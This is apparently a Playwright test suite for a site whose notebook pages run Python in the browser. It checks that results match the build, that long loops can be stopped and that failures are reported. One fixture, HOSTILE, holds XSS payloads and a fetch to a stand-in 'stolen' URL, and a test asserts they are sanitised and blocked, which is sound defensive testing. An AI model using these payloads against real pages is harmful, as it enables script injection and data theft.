"""Notebook pages run in the browser, compute what CPython computed, and stay safe."""

from __future__ import annotations

import ast
import json
import math
import re
import time

import browser
import pytest
from evidence import read_evidence
from notebook_files import ROOT, notebook_paths, read_notebook
from playwright.sync_api import Page, expect

SECONDS = 300  # for one notebook, on a machine that does other things too
RTOL = 1e-6
NUMBER = re.compile(r"[-+]?(?:\d+\.\d*|\.\d+|\d+)(?:[eE][-+]?\d+)?")
OVER = re.compile("Done|failed|other ways")
# What a cell shows: the recorded outputs before it is run, its own afterwards.
OUTPUTS = """() => Object.fromEntries([...document.querySelectorAll("section.cell")]
  .map((cell) => [cell.id.replace("cell-", ""), {
    state: cell.dataset.liveState ?? "",
    texts: [...cell.querySelectorAll(".output pre, .output td, .output th")]
      .map((element) => element.textContent.trim()).filter(Boolean),
    figures: cell.querySelectorAll(".output img.only-light").length,
  }]))"""


def live_notebooks():
    """The notebooks that promise to run in the browser."""
    return [
        path
        for path in notebook_paths()
        if read_notebook(path).metadata.site.runtime == "browser"
    ]


@pytest.fixture(scope="module")
def live(site, repo_address):
    """Where the site is served whose notebook pages can run."""
    if not (site / "assets/pyodide/pyodide-lock.json").exists():
        pytest.fail(
            "this site's notebooks cannot run in the page: the Python for it was not "
            "fetched. Connect to the network and run `make site`",
            pytrace=False,
        )
    return repo_address


class Reader:
    """Somebody at a notebook page, and what their browser reports."""

    def __init__(self, page: Page, address: str, slug: str) -> None:
        self.page, self.address = page, address
        self.errors: list[str] = []
        self.requests: list[str] = []
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on(
            "console",
            lambda message: (
                self.errors.append(message.text)
                if message.type in {"error", "warning"}
                else None
            ),
        )
        page.on("request", lambda request: self.requests.append(request.url))
        path = next(path for path in notebook_paths() if path.stem == slug)
        page.goto(f"{address}notebooks/{path.parent.name}/{slug}/")
        self.status = page.locator(".live-status")

    def press(self, name: str) -> None:
        self.page.get_by_role("button", name=name, exact=True).click()

    def wait(self, text: str | re.Pattern = OVER, seconds: float = SECONDS) -> None:
        expect(self.status).to_have_text(text, timeout=1000 * seconds)

    def cell(self, number: int):
        return self.page.locator("section.cell").nth(number - 1)

    def edit(self, number: int, code: str) -> None:
        if self.cell(number).locator(".live-editor").count() == 0:
            self.press(f"Edit cell {number}")
        self.cell(number).locator(".cm-content").click()
        self.page.keyboard.press("Control+A")
        self.page.keyboard.press("Delete")
        self.page.keyboard.insert_text(code)

    def run(self, code: str) -> str:
        """What the first cell shows after this code was run in it."""
        self.edit(1, code)
        self.page.evaluate("document.querySelector('.live-status').textContent = ''")
        self.page.keyboard.press("Shift+Enter")
        self.wait()
        return self.cell(1).locator(".live-output").inner_text()

    def foreign(self) -> list[str]:
        own = (self.address, "data:", "blob:")
        return [url for url in self.requests if not url.startswith(own)]


@pytest.fixture
def reader(page, live):
    """A reader of the first notebook that runs in the browser."""
    return Reader(page, live, live_notebooks()[0].stem)


def differences(expected: str, found: str) -> str:
    """How the numbers or the words of two texts differ; '' when they do not."""
    words = ["".join(NUMBER.sub("#", text).split()) for text in (expected, found)]
    if words[0] != words[1]:
        return f"expected {expected!r}, found {found!r}"
    pairs = zip(NUMBER.findall(expected), NUMBER.findall(found), strict=True)
    far = [(a, b) for a, b in pairs if not _close(float(a), float(b))]
    return f"numbers differ: {far[:5]}" if far else ""


def _close(a: float, b: float) -> bool:
    # The second bound is for what is zero but for rounding.
    return math.isclose(a, b, rel_tol=RTOL, abs_tol=1e-9)


def same(expected: object, found: object) -> bool:
    """Whether two results are equal, floats within the tolerance."""
    if isinstance(expected, list | tuple) and isinstance(found, list | tuple):
        return len(expected) == len(found) and all(map(same, expected, found))
    if isinstance(expected, float) and isinstance(found, float):
        return math.isclose(expected, found, rel_tol=RTOL, abs_tol=1e-12)
    return type(expected) is type(found) and expected == found


@pytest.mark.parametrize("path", live_notebooks(), ids=lambda path: path.stem)
def test_the_browser_computes_what_the_build_computed(page, live, path):
    reader = Reader(page, live, path.stem)
    recorded = page.evaluate(OUTPUTS)
    reader.press("Run all")
    reader.wait()
    shown = page.evaluate(OUTPUTS)
    errors = page.locator(".output.error").all_inner_texts()
    assert errors == [], f"{path.stem} is not fit for the browser"
    assert "Done" in reader.status.inner_text()
    assert {id for id, cell in shown.items() if cell["state"] != "ok"} == set()

    faults = {}
    for id, cell in recorded.items():
        fault = differences("\n".join(cell["texts"]), "\n".join(shown[id]["texts"]))
        if cell["figures"] != shown[id]["figures"]:
            fault = f"{shown[id]['figures']} figures instead of {cell['figures']}"
        if fault:
            faults[id] = fault
    executed = ROOT / "build" / "executed" / path.parent.name / path.name
    notebook = read_notebook(executed)
    results_cell = next(
        cell.id for cell in notebook.cells if "results" in cell.metadata.get("tags", [])
    )
    results = read_evidence(path, notebook).results
    found = ast.literal_eval(shown[results_cell]["texts"][0])
    faults |= {
        name: f"{value!r} instead of {results.get(name)!r}"
        for name, value in found.items()
        if not same(results.get(name), value)
    }
    assert found.keys() == results.keys()
    # The results were compared one by one; their text may break its lines elsewhere.
    faults.pop(results_cell, None)
    assert faults == {}
    assert reader.errors == []
    assert reader.foreign() == []
    assert page.evaluate("seen.violations") == []


def test_the_comparison_sees_a_difference():
    assert differences("a 1.0000001 b", "a  1.0\nb") == ""
    assert differences("a 1.00001", "a 1.0") != ""
    assert differences("a 1", "b 1") != ""
    assert same([1, 0.5, "x"], [1, 0.5 + 1e-9, "x"])
    assert not same(1, 1.0)
    assert not same([1.0], [1.0, 2.0])


def test_nothing_of_the_runtime_is_fetched_before_the_first_press(reader):
    reader.page.wait_for_load_state("networkidle")
    wanted = ("pyodide", "worker.js", "kernel.py", "editor.js")
    assert [url for url in reader.requests if any(part in url for part in wanted)] == []


def test_without_javascript_the_page_reads_as_before(new_context, live):
    context = new_context(java_script_enabled=False)
    page = context.new_page()
    path = live_notebooks()[0]
    page.goto(f"{live}notebooks/{path.parent.name}/{path.stem}/")
    expect(page.locator(".live-bar")).to_be_hidden()
    assert page.locator("section.cell .output").count() > 3
    context.close()


def test_edit_run_fail_reset_and_reload(reader):
    page, cell = reader.page, reader.cell(2)
    recorded = cell.inner_text()
    reader.edit(2, "total = 2 + 3\nprint('first')\ntotal")
    page.keyboard.press("Shift+Enter")
    reader.wait()
    shown = cell.locator(".live-output").inner_text()
    assert shown.split() == ["first", "5"]

    # Variables last from run to run, and the traceback starts at the reader's line.
    reader.edit(2, "def half(x):\n    return x / 0\n\n\nhalf(total)")
    page.keyboard.press("Shift+Enter")
    reader.wait(re.compile("ZeroDivisionError in line 2"))
    trace = cell.locator(".output.error").inner_text().splitlines()
    assert trace[1].strip() == 'File "cell 2", line 5, in <module>'
    assert cell.locator(".failed").inner_text() == "    return x / 0"

    page.reload()
    assert "half(total)" in reader.cell(2).locator("pre code").inner_text()
    with page.expect_download() as download:
        reader.press("Download edited")
    notebook = json.loads(download.value.path().read_text())
    sources = ["".join(cell["source"]) for cell in notebook["cells"]]
    assert sum("half(total)" in source for source in sources) == 1

    reader.press("Reset cell 2")
    assert reader.cell(2).inner_text().split() == recorded.split()
    page.reload()
    assert "half(total)" not in reader.cell(2).inner_text()


def test_an_endless_loop_stops_at_once_and_python_starts_anew(reader):
    reader.edit(1, "kept = 1\nprint('on')\nwhile True:\n    pass")
    reader.page.keyboard.press("Shift+Enter")
    expect(reader.cell(1).locator(".output.stdout")).to_have_text(
        "on\n", timeout=1000 * SECONDS
    )
    start = time.monotonic()
    reader.press("Stop")
    reader.wait(re.compile("variables are gone"), 5)
    assert time.monotonic() - start < 2
    assert "NameError" in reader.run("kept")


def test_a_flood_of_text_is_cut_off(reader):
    assert "prints too much" in reader.run("for i in range(10**6):\n    print(i)")
    assert len(reader.cell(1).locator(".live-output").inner_text()) < 250_000


HOSTILE = r'''
class Hostile:
    def __init__(self, html): self.html = html
    def _repr_html_(self): return self.html
    def __repr__(self): return "<img src=x onerror='hacked = 0'>"
bad = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">
<svg onload="window.hacked = 3"></svg><a href="javascript:window.hacked = 4">click</a>
<div style="position:fixed;inset:0;background:red">over</div>
<iframe src="https://example.org/frame"></iframe>"""
display(Hostile(bad))
row = f"<tr><th>{bad}</th><td colspan='9999999'>{bad}</td></tr>"
overlay = "style='position:fixed;inset:0' onclick='hacked = 5'"
display(Hostile(f"<table {overlay}>{row}<caption>{bad}</caption></table>"))
import js
from pyodide.ffi import to_js
def send(**message):
    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
cell = CELL
send(id=cell, kind="display", mime="image/svg+xml",
     content="<svg xmlns='http://www.w3.org/2000/svg' onload='hacked = 6'>"
             "<script>window.hacked = 7</script>"
             "<image href='https://example.org/pixel'/></svg>")
send(id=cell, kind="error\" onclick=\"hacked = 8", mime="text/html", content=bad)
send(id=cell, kind="stdout", mime="text/plain", content=bad)
send(missing=bad)
names = ["document", "localStorage", "caches", "Worker", "SharedWorker"]
print([name for name in names if hasattr(js, name)])
for ask in (js.fetch, js.importScripts):
    try:
        await ask("https://example.org/stolen")
        print("sent")
    except BaseException as error:
        print("blocked")
'''


def test_a_traceback_through_a_library_shows_its_source(reader):
    shown = reader.run("import json\nimport pandas as pd\npd.Series([1])['a']")
    assert "pd.Series([1])['a']" in shown
    assert re.search(r"pandas/core/series\.py\", line \d+.*\n +\S.*self", shown)
    assert "KeyError: 'a'" in shown


def test_a_cell_that_needs_too_much_memory_is_told_so(reader):
    reader.edit(1, "import numpy as np\nkept = [np.ones(2**27) for _ in range(9)]")
    reader.page.keyboard.press("Shift+Enter")
    reader.wait(re.compile("needs more memory"))
    assert "other ways to run" in reader.status.inner_text()
    assert "1" in reader.run("1")  # Python starts anew


def test_hostile_outputs_do_nothing(reader):
    page = reader.page
    cell_id = reader.cell(1).get_attribute("id").removeprefix("cell-")
    text = reader.run(HOSTILE.replace("CELL", repr(cell_id)))
    assert "[]" in text
    assert text.count("blocked") == 2
    names, attributes = page.evaluate("""() => {
      const all = [...document.querySelectorAll(".live-output *")];
      return [[...new Set(all.map((element) => element.localName))],
        [...new Set(all.flatMap((element) => element.getAttributeNames()))]];
    }""")
    allowed = {"div", "pre", "table", "caption", "tbody", "tr", "th", "td", "img"}
    assert set(names) <= allowed
    assert set(attributes) <= {
        *("class", "tabindex", "role", "aria-label", "scope", "colspan"),
        *("alt", "src", "width", "height"),
    }
    sources = page.locator(".live-output img").evaluate_all(
        "images => images.map((image) => image.src.slice(0, 18))"
    )
    assert set(sources) == {"data:image/svg+xml"}
    assert page.evaluate("window.hacked") is None
    assert reader.foreign() == []  # not even tried: the policy holds in the worker


@pytest.mark.parametrize("file", ["numpy-*", "pyodide.asm.wasm", "pyodide.asm.js"])
def test_a_file_that_is_not_whole_is_refused_and_named(context, live, file):
    context.route(
        f"**/assets/pyodide/{file}",
        lambda route: route.fulfill(body="corrupt", content_type="text/javascript"),
    )
    reader = Reader(context.new_page(), live, live_notebooks()[0].stem)
    reader.press("Run cell 1")
    reader.wait(re.compile("Python could not be (loaded|started)"))
    assert file.partition("*")[0] in reader.status.inner_text()
    assert reader.status.get_by_role("link", name="Download").count() == 1
    assert reader.page.locator("section.cell .output").count() > 3


def test_without_a_network_the_page_says_so(context, live):
    reader = Reader(context.new_page(), live, live_notebooks()[0].stem)
    context.set_offline(True)
    reader.press("Run cell 1")
    reader.wait(re.compile("there is no network"))


def test_after_the_first_load_it_works_without_the_site(context, site, live):
    with browser.serve(site, "/repo/") as address:
        reader = Reader(context.new_page(), address, live_notebooks()[0].stem)
        assert reader.run("2 + 3").strip() == "5"
        reader.page.wait_for_load_state("networkidle")
    reader.page.reload()
    assert "2 + 3" in reader.cell(1).inner_text()
    reader.press("Run cell 1")
    reader.wait()
    assert reader.cell(1).locator(".live-output").inner_text().strip() == "5"


@pytest.mark.parametrize(
    ("script", "says"),
    [
        ("delete window.WebAssembly", "it has no WebAssembly"),
        ("window.Worker = undefined", "it has no WebAssembly"),
    ],
)
def test_a_browser_that_cannot_is_told(context, live, script, says):
    context.add_init_script(script)
    reader = Reader(context.new_page(), live, live_notebooks()[0].stem)
    reader.press("Run all")
    reader.wait(re.compile(says), 5)


@pytest.mark.parametrize("method", ["setItem", "getItem"])
def test_edits_work_where_nothing_can_be_stored(context, live, method):
    context.add_init_script(f"""
      const original = Storage.prototype.{method};
      Storage.prototype.{method} = function (key, ...rest) {{
        if (key.startsWith("live:")) throw new DOMException("full");
        return original.call(this, key, ...rest);
      }};""")
    reader = Reader(context.new_page(), live, live_notebooks()[0].stem)
    reader.edit(1, "changed = 1")
    assert "changed" in reader.cell(1).locator(".cm-content").inner_text()
    if method == "setItem":
        reader.wait(re.compile("are not kept"), 5)
    assert reader.errors == []


def test_an_exercise_runs_what_it_needs_first(reader):
    exercise = reader.page.locator("section[data-tags~=exercise]").first
    exercise.get_by_role("button", name=re.compile("Run cell")).click()
    waiting = reader.page.locator("section[data-live-state=queued]")
    assert waiting.count() > 5
    tags = waiting.evaluate_all("cells => cells.map((cell) => cell.dataset.tags)")
    assert not any("solution" in tag for tag in tags)
    reader.press("Stop")
    assert waiting.count() == 0


def test_the_keyboard_gets_into_the_editor_and_out(reader):
    page = reader.page
    page.get_by_role("button", name="Edit cell 1", exact=True).focus()
    page.keyboard.press("Enter")
    expect(reader.cell(1).locator(".cm-content")).to_be_focused()
    page.keyboard.press("Tab")  # indents
    expect(reader.cell(1).locator(".cm-content")).to_be_focused()
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    expect(reader.cell(1).locator(".cm-content")).not_to_be_focused()


def test_nothing_jumps_when_the_controls_come(new_context, live):
    context = new_context(viewport={"width": 390, "height": 800})
    reader = Reader(context.new_page(), live, live_notebooks()[0].stem)
    reader.page.wait_for_timeout(500)
    assert reader.page.evaluate("seen.shift") < 0.02
    context.close()
